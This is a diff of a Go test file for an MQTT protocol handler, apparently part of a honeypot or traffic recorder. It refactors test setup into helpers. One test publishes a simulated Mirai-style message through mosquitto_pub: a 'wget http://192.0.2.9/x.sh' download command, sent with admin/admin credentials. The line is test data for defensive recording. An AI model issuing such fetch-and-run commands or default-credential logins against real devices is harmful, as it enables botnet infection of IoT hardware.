@@ -2,7 +2,6 @@ package mqtt_test
 
 import (
 	"net"
-	"os"
 	"os/exec"
 	"reflect"
 	"testing"
@@ -30,11 +29,7 @@ func TestAddHandler(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			reg := handlers.NewRegistry(generic.New(generic.Config{}))
 			reg.Register(mqtt.New(mqtt.Config{}), handlers.Matcher{Content: mqtt.Match, Ports: mqtt.Ports})
-			rec := &handlerstest.Recorder{}
-			mux, err := handlers.NewMux(handlers.MuxConfig{Registry: reg, Emit: rec.Emit})
-			if err != nil {
-				t.Fatal(err)
-			}
+			mux, rec := handlerstest.NewMux(t, handlers.MuxConfig{Registry: reg})
 			server, client := handlerstest.TCPPair(t)
 			go mux.ServeConn(server, handlerstest.Flow(server, tc.port))
 
@@ -69,32 +64,11 @@ func TestAddHandler(t *testing.T) {
 // TestMosquittoPub publishes with the real mosquitto_pub client through a
 // Mux on a loopback listener.
 func TestMosquittoPub(t *testing.T) {
-	pub, err := exec.LookPath("mosquitto_pub")
-	if err != nil {
-		if os.Getenv("CI") == "true" {
-			t.Fatalf("mosquitto_pub not installed: %v", err)
-		}
-		t.Skip("mosquitto_pub not installed (Debian mosquitto-clients)")
-	}
+	pub := handlerstest.RequireTool(t, "mosquitto_pub", "mosquitto-clients")
 	reg := handlers.NewRegistry(generic.New(generic.Config{}))
 	reg.Register(mqtt.New(mqtt.Config{}), handlers.Matcher{Content: mqtt.Match, Ports: mqtt.Ports})
-	rec := &handlerstest.Recorder{}
-	mux, err := handlers.NewMux(handlers.MuxConfig{Registry: reg, Emit: rec.Emit})
-	if err != nil {
-		t.Fatal(err)
-	}
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ln.Close()
-	go func() {
-		c, err := ln.Accept()
-		if err == nil {
-			mux.ServeConn(c, handlerstest.Flow(c, 1883))
-		}
-	}()
-	_, port, _ := net.SplitHostPort(ln.Addr().String())
+	addr, rec := handlerstest.Serve(t, handlers.MuxConfig{Registry: reg}, 1883)
+	_, port, _ := net.SplitHostPort(addr)
 	out, err := exec.Command(pub, "-h", "127.0.0.1", "-p", port, "-i", "mirai-3", "-u", "admin", "-P", "admin",
 		"-t", "devices/exec", "-m", "wget http://192.0.2.9/x.sh", "-V", "mqttv311").CombinedOutput()
 	if err != nil {
